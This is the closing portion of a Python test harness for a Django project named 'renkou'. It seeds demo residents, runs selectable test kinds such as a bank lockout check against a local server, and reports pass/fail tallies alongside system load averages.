    return 0 if bad == 0 else 1


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--persons", type=int, default=3000, help="demo district residents")
    parser.add_argument("--loader-persons", type=int, default=600)
    parser.add_argument("--keep", action="store_true", help="keep the data and databases")
    parser.add_argument("--only", nargs="*", help="run only these kinds (e.g. bank lockout)")
    args = parser.parse_args()
    print(f"load average before: {os.getloadavg()[0]:.2f}")
    setup = prepare(args.persons)
    sys.path.insert(0, str(ROOT))
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "renkou.settings")
    import django

    django.setup()
    # The pages run in this process too: their log lines (and the tracebacks of the 500s this
    # run provokes on purpose) would bury the report; the counts say what happened.
    logging.disable(logging.CRITICAL)
    try:
        issue_tokens(setup)
        start_server(setup)
        tallies = [
            run_kind(kind, setup)
            for kind in KINDS
            if not args.only or any(o in kind.__name__ for o in args.only)
        ]
        stop_server(setup)
        if not args.only or any("load" in o for o in args.only):
            tallies += loader_kinds(setup, args.loader_persons)
    finally:
        cleanup(setup, args.keep)
    print(f"load average after: {os.getloadavg()[0]:.2f}")
    sys.exit(report(tallies))


if __name__ == "__main__":
    main()
